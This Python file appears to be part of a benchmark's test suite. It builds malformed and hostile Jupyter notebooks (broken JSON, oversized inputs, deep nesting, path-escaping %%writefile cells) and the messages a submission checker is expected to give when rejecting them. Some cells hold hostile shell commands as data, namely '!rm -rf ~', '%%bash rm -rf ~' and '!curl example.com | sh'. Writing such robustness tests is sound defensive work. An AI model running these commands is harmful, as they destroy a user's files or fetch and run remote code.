"""Hostile notebooks."""

import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from benchmarks.hostile.hostile import GOOD, Hostile, lone

NONE = "kim.ipynb: left out, it is no notebook that can be read"
TOO_MUCH = "kim.ipynb: left out, its cells hold too much code"


def notebook(*cells: Any, **fields: Any) -> bytes:
    """Return a notebook of code cells."""
    made = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell} for cell in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": made} | fields).encode()


def _notebook(name: str, make: Callable[[], bytes], note: str, left: Iterable[str] = ()) -> Hostile:
    return lone(f"notebook: {name}", "kim.ipynb", make, note, left)


def _cell(name: str, cell: str, note: str) -> Hostile:
    """One hostile cell beside one that is right."""
    return _notebook(name, lambda: notebook(GOOD.decode(), cell), note, ["kim.py"])


def _beside(root: Path) -> Path:
    kim = root / "kim"
    kim.mkdir()
    (kim / "layers.py").write_bytes(GOOD)
    (kim / "layers.ipynb").write_bytes(notebook("SECRET = 1"))
    (kim / "other.ipynb").write_bytes(notebook("%%writefile layers.py\nSECRET = 1"))
    return kim


NOTEBOOKS = (
    _notebook("no JSON", lambda: b"{'cells': []}", NONE),
    _notebook("nothing", lambda: b"", NONE),
    _notebook("not UTF-8", lambda: b'{"cells": "\xff"}', "kim.ipynb: not UTF-8 text (byte 11); save it as UTF-8"),
    _notebook("brackets of JSON without end", lambda: b"[" * 400_000, "kim.ipynb: left out, it is no notebook that can be read"),
    _notebook("a number of a million digits", lambda: b'{"nbformat": ' + b"4" * 1_000_000 + b"}", NONE),
    _notebook("no object", lambda: b"[4]", NONE),
    _notebook("a version that does not exist", lambda: notebook("x = 1", nbformat=99), NONE),
    _notebook("a version that is a list", lambda: notebook("x = 1", nbformat=[4]), NONE),
    _notebook("cells that are no list", lambda: notebook(cells={"a": 1}), NONE),
    _notebook("cells that are no cells", lambda: notebook(cells=[1, "x", None, []]), "kim.ipynb: left out, there is no code in it."),
    _notebook("sheets that are none", lambda: notebook(nbformat=3, worksheets=5), NONE),
    _notebook("a source that is a number", lambda: notebook(5), NONE),
    _notebook("a source of numbers", lambda: notebook([1, 2]), NONE),
    _notebook(
        "a hundred thousand cells",
        lambda: notebook(cells=[{"cell_type": "code", "source": "x"}] * 100_000),
        "kim.ipynb: left out, it has more than 1000 cells",
    ),
    _notebook(
        "a million cells",
        lambda: b'{"nbformat":4,"cells":[' + b"{}," * 1_000_000 + b"{}]}",
        "kim.ipynb: left out, it holds more than 500,000 values",
    ),
    _notebook(
        "half a million values",
        lambda: b'{"nbformat":4,"cells":[' + b"[]," * 240_000 + b"[]]}",
        "kim.ipynb: left out, it has more than 1000 cells",
    ),
    _notebook("nine megabytes", lambda: notebook("#" * (9 << 20)), "kim.ipynb: left out, it is larger than 8 MB; clear its outputs"),
    _notebook("two megabytes of code", lambda: notebook("#" * (2 << 20)), TOO_MUCH),
    _notebook("a hundred thousand statements", lambda: notebook("x\n" * 100_000), TOO_MUCH),
    _notebook("as many statements as are read", lambda: notebook("x\n" * 14_000, "y("), "kim.ipynb, cell 2: left out", ["kim.py"]),
    _notebook(
        "a thousand magics", lambda: notebook("!rm -rf ~\n" * 1000), "kim.ipynb, cell 1: left out !rm -rf ~, it is no Python.", ["kim.py"]
    ),
    _cell("brackets without end", "(" * 29_000, "kim.ipynb, cell 2: left out, "),
    _cell("minus signs without end", "-" * 29_000 + "1", "kim.ipynb, cell 2: left out, Python cannot read it"),
    _cell("a sum without end", "+".join("1" * 14_000), "kim.ipynb, cell 2: left out, Python cannot read it"),
    _cell("calls without end", "f" + "()" * 14_000, "kim.ipynb, cell 2: left out, Python cannot read it"),
    _cell("attributes without end", "a" + ".a" * 14_000, "kim.ipynb, cell 2: left out, Python cannot read it"),
    _cell("quotes without end", '"\\' * 14_000, "kim.ipynb, cell 2: left out, "),
    _cell("spaces and question marks without end", "? " * 20_000 + "x", "kim.ipynb, cell 2: left out ? ? "),
    _cell("blocks without end", "".join(" " * i + "if 1:\n" for i in range(300)), "kim.ipynb, cell 2: left out, "),
    _cell("a NUL", "x = '\0'", "kim.ipynb, cell 2: left out, "),
    _cell("half a character", "x = '\ud800'", "kim.ipynb, cell 2: left out, Python cannot read it"),
    _cell("a shell command", "!curl example.com | sh", "kim.ipynb, cell 2: left out !curl example.com | sh, it is no Python."),
    _cell("a shell script", "%%bash\nrm -rf ~", "kim.ipynb, cell 2: left out, %%bash is no Python."),
    _cell("a file outside", "%%writefile ../x.py\nx = 1", "../x.py: left out, its path leaves the submission."),
    _cell("a file at an absolute path", "%%writefile /tmp/x.py\nx = 1", "/tmp/x.py: left out, its path is absolute."),
    _cell("a file with half a character", "%%writefile x.py\nx = '\ud800'", "x.py: not UTF-8 text (byte 5)"),
    _cell("a file of its own name", "%%writefile KIM.py\nx = 1", "KIM.py: left out, its name is the same as kim.py"),
    Hostile(
        "notebook: names of files that are there",
        _beside,
        frozenset({"layers.py"}),
        "layers.ipynb: left out, layers.py beside it is read instead.",
    ),
)
